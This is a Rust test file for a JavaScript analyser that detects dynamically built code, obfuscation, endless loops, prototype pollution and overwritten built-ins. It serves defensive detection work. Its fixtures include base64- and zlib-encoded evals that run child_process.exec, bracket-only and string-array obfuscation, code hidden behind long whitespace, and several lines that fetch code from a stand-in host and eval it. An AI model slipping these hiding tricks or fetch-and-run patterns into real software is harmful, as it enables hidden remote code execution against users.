//! Text that becomes code, what it does then, and how it was hidden.

use ringfence_analysis::Effect::{
    BuiltinWrite, DynamicCode, EndlessLoop, Obfuscation, PrototypeWrite, Shell,
};
use ringfence_analysis::{Hiding, Source};

use super::{Case, case, check, does, flows, hides, trace_of, trace_one};

const CASES: &[Case] = &[
    case("eval", DynamicCode, "js:eval", "1 + 1", "eval('1 + 1')"),
    case("eval by another name", DynamicCode, "js:eval", "x", "const e = eval; e('x')"),
    case("indirect eval", DynamicCode, "js:eval", "x", "(0, eval)('x')"),
    case("eval of the global object", DynamicCode, "js:eval", "x", "globalThis['ev' + 'al']('x')"),
    case("eval of a window", DynamicCode, "js:eval", "x", "window.eval('x')"),
    case("eval of this", DynamicCode, "js:eval", "x", "(function () { return this })().eval('x')"),
    case("Function", DynamicCode, "js:Function", "return 1", "new Function('return 1')()"),
    case("Function without new", DynamicCode, "js:Function", "return 1", "Function('return 1')()"),
    case(
        "Function of a list",
        DynamicCode,
        "js:Function",
        "x",
        "[].constructor.constructor('x')()",
    ),
    case(
        "Function of a text's method",
        DynamicCode,
        "js:Function",
        "x",
        "''.sub.constructor('x')()",
    ),
    case(
        "Function of a function",
        DynamicCode,
        "js:Function",
        "x",
        "(function () {}).constructor('x')()",
    ),
    case("Function of an arrow", DynamicCode, "js:Function", "x", "(() => {}).constructor('x')()"),
    case(
        "AsyncFunction",
        DynamicCode,
        "js:AsyncFunction",
        "x",
        "Object.getPrototypeOf(async function () {}).constructor('x')()",
    ),
    case(
        "Reflect constructs Function",
        DynamicCode,
        "js:Function",
        "x",
        "Reflect.construct(Function, ['x'])()",
    ),
    case("a timer with text", DynamicCode, "js:setTimeout", "x", "setTimeout('x()', 10)"),
    case("vm", DynamicCode, "node:vm.runInThisContext", "x", "require('vm').runInThisContext('x')"),
    case(
        "vm in a context of its own",
        DynamicCode,
        "node:vm.runInNewContext",
        "x",
        "require('vm').runInNewContext('x', {})",
    ),
    case(
        "a script of vm",
        DynamicCode,
        "node:vm.Script",
        "x",
        "new (require('vm').Script)('x').runInThisContext()",
    ),
    case(
        "a worker from text",
        DynamicCode,
        "node:worker_threads.Worker",
        "x",
        "const { Worker } = require('worker_threads'); new Worker('x', { eval: true })",
    ),
    case(
        "a module compiled from text",
        DynamicCode,
        "node:module.prototype._compile",
        "x",
        "const M = require('module'); const m = new M('a'); m._compile('x', 'a')",
    ),
    case(
        "the module compiles text",
        DynamicCode,
        "node:module.prototype._compile",
        "x",
        "module._compile('x', 'a')",
    ),
    case(
        "what eval runs is followed",
        Shell,
        "node:child_process.exec",
        "id",
        "eval(\"require('child_process').exec('id')\")",
    ),
    case(
        "what eval runs sees what is around it",
        Shell,
        "node:child_process.exec",
        "id",
        "const c = require('child_process'); eval(\"c.exec('id')\")",
    ),
    case(
        "what Function runs is followed",
        Shell,
        "node:child_process.exec",
        "id",
        "new Function('r', \"r('child_process').exec('id')\")(require)",
    ),
    case(
        "what Function returns is followed",
        Shell,
        "node:child_process.exec",
        "id",
        "Function('return process')().mainModule.require('child_process').exec('id')",
    ),
    case(
        "eval within eval",
        Shell,
        "node:child_process.exec",
        "id",
        "eval(atob('ZXZhbCgicmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJykiKQ=='))",
    ),
    case(
        "a compressed program",
        DynamicCode,
        "js:eval",
        "console.log(1)",
        "eval(require('zlib').inflateSync(Buffer.from('eJxLzs8rzs9J1cvJT9cw1AQAKRIE5g==', 'base64')).toString())",
    ),
    case(
        "a packed program",
        DynamicCode,
        "js:eval",
        "alert(1)",
        "eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c])}}return p}('0(1)',2,1,'alert'.split('|'),0,{}))",
    ),
    case(
        "an array of strings that a function turns",
        Shell,
        "node:child_process.exec",
        "id",
        "var _0x1a2b = ['exec', 'id', 'child_process']; (function (a, n) { var f = function (i) { while (--i) { a.push(a.shift()) } }; f(++n) }(_0x1a2b, 0x1)); var _0x3c4d = function (i) { i = i - 0x0; return _0x1a2b[i] }; require(_0x3c4d('0x1'))[_0x3c4d('0x2')](_0x3c4d('0x0'))",
    ),
    case(
        "only brackets",
        DynamicCode,
        "js:Function",
        "return 1",
        "[]['flat']['constructor']((!![]+[])[1]+(!![]+[])[3]+(!![]+[])[0]+'urn 1')()",
    ),
    case("a loop that cannot end", EndlessLoop, "js:loop", "", "while (true) {}"),
    case("a loop without a condition", EndlessLoop, "js:loop", "", "for (;;) { Math.random() }"),
    case(
        "a loop whose condition is folded",
        EndlessLoop,
        "js:loop",
        "",
        "while (1 + 1 === 2) { console.log('x') }",
    ),
    case(
        "a loop whose break belongs to another",
        EndlessLoop,
        "js:loop",
        "",
        "while (!0) { for (const a of [1]) { break } }",
    ),
    case(
        "a loop until a constant",
        EndlessLoop,
        "js:loop",
        "",
        "const go = true; do { } while (go)",
    ),
    case(
        "a function that calls itself",
        EndlessLoop,
        "js:recursion",
        "",
        "function f() { f() } f()",
    ),
    case(
        "a timer that arms itself",
        EndlessLoop,
        "js:setTimeout",
        "",
        "function f() { setTimeout(f, 0) } f()",
    ),
    case(
        "an immediate that arms itself",
        EndlessLoop,
        "js:setImmediate",
        "",
        "(function f() { setImmediate(f) })()",
    ),
    case(
        "a tick that arms itself",
        EndlessLoop,
        "node:process.nextTick",
        "",
        "function f() { process.nextTick(f) } f()",
    ),
    case(
        "a prototype is written by its name",
        PrototypeWrite,
        "js:Object.prototype",
        "__proto__",
        "module.exports = o => { o.__proto__.admin = true }",
    ),
    case(
        "a prototype is written through the constructor",
        PrototypeWrite,
        "js:Object.prototype",
        "constructor",
        "module.exports = o => { o.constructor.prototype.admin = true }",
    ),
    case(
        "a merge lets a prototype through",
        PrototypeWrite,
        "js:Object.prototype",
        "",
        "function merge(a, b) { for (const k in b) { if (typeof b[k] === 'object') merge(a[k], b[k]); else a[k] = b[k] } return a } module.exports = merge",
    ),
    case(
        "a path of names from outside is stepped down and written",
        PrototypeWrite,
        "js:Object.prototype",
        "",
        "module.exports = function set(o, path, value) { const keys = path.split('.'); let at = o; while (keys.length > 1) { at = at[keys.shift()] } at[keys[0]] = value }",
    ),
    case(
        "a timer of whatever becomes text",
        DynamicCode,
        "js:setInterval",
        "",
        "const again = setInterval; again(String(process.argv[2]), 1000)",
    ),
    case(
        "a text whose letters come from values",
        DynamicCode,
        "js:Function",
        "f:u]",
        "[]['flat']['constructor']((![]+[])[+[]]+(RegExp()+[])[3]+([][[]]+[])[+[]]+({}+[])[14])()",
    ),
    case(
        "only brackets",
        Obfuscation,
        "js:source",
        "",
        "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]];",
    ),
    case(
        "a built-in function is replaced",
        BuiltinWrite,
        "node:fs.readFile",
        "",
        "require('fs').readFile = function () {}",
    ),
    case(
        "a method of all lists is replaced",
        BuiltinWrite,
        "js:Array.prototype.push",
        "",
        "Array.prototype.push = function () {}",
    ),
    case("fetch is replaced", BuiltinWrite, "js:fetch", "", "globalThis.fetch = () => {}"),
    case(
        "mangled names",
        Obfuscation,
        "js:source",
        "",
        "var _0x1a2b=1,_0x1a2c=2,_0x1a2d=3,_0x1a2e=4,_0x1a2f=5,_0x1b2a=6,_0x1b2b=7,_0x1b2c=8,_0x1b2d=9,_0x1b2e=1,_0x1b2f=2,_0x1c2f=3,_0x1d2f=3;",
    ),
];

#[test]
fn code_made_of_text_is_seen_and_run() {
    check(CASES);
}

#[test]
fn how_code_was_hidden_is_said() {
    let one = trace_one(
        "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=', 'base64').toString())",
    );
    assert!(hides(&one, DynamicCode, Hiding::Base64));
    assert!(hides(&one, Shell, Hiding::CodeInText));
    let two = trace_one("require('child_process')['cexe'.split('').reverse().join('')]('id')");
    assert!(hides(&two, Shell, Hiding::Reversal));
    assert!(hides(&two, Shell, Hiding::ComputedName));
    let far = format!("const a = 1;{}require('child_process').exec('id')", " ".repeat(400));
    assert!(hides(&trace_one(&far), Obfuscation, Hiding::OffScreen));
}

#[test]
fn what_a_server_answers_is_followed_into_eval() {
    for source in [
        "fetch('http://a.example').then(r => r.text()).then(eval)",
        "fetch('http://a.example').then(r => r.text()).then(t => new Function(t)())",
        "(async () => { const r = await fetch('http://a.example'); eval(await r.text()) })()",
        "require('https').get('https://a.example', r => { let b = ''; r.on('data', d => { b += d }); r.on('end', () => eval(b)) })",
        "require('axios').get('https://a.example').then(({ data }) => eval(data))",
        "const axios = require('axios'); async function go() { const { data } = await axios.get('https://a.example'); new Function('require', data.code)(require) } go()",
        "require('request')('http://a.example', (e, r, body) => { eval(body) })",
        "const x = new XMLHttpRequest(); x.open('GET', 'http://a.example'); x.onload = () => eval(x.responseText); x.send()",
        "require('net').connect(80, 'a.example').on('data', d => eval(d.toString()))",
        "const axios = require('axios'); (async () => { try { await axios.get('https://a.example') } catch (e) { eval(e.response.data) } })()",
    ] {
        assert!(flows(&trace_one(source), Source::Network, DynamicCode), "{source}");
    }
}

#[test]
fn a_file_that_is_not_named_as_code_and_run_as_code_is_run_and_named() {
    let trace = trace_of(&[
        (
            "index.js",
            "require('vm').runInThisContext(require('fs').readFileSync(require('path').join(__dirname, 'payload.txt'), 'utf8'))",
        ),
        ("payload.txt", "require('child_process').exec('id')"),
    ]);
    assert!(does(&trace, Shell, "node:child_process.exec", "id"), "{:#?}", trace.events);
    assert_eq!(trace.loads.iter().map(|(path, _)| &**path).collect::<Vec<_>>(), ["payload.txt"]);
    let trace = trace_of(&[
        (
            "index.js",
            "const fs = require('fs'); fs.readFile('./notes.md', (e, d) => eval(d.toString()))",
        ),
        ("notes.md", "1"),
    ]);
    assert_eq!(trace.loads.iter().map(|(path, _)| &**path).collect::<Vec<_>>(), ["notes.md"]);
}

#[test]
fn a_file_that_a_worker_runs_is_code_whatever_it_is_called() {
    for start in [
        "new (require('worker_threads').Worker)(__dirname + '/payload.txt')",
        "const { Worker } = require('node:worker_threads'); new Worker('./payload.txt')",
        "new (require('worker_threads').Worker)(new URL('./payload.txt', 'file://' + __filename))",
    ] {
        let trace = trace_of(&[("index.js", start), ("payload.txt", "0")]);
        let loads: Vec<_> = trace.loads.iter().map(|(path, _)| &**path).collect();
        assert_eq!(loads, ["payload.txt"], "{start}");
    }
}
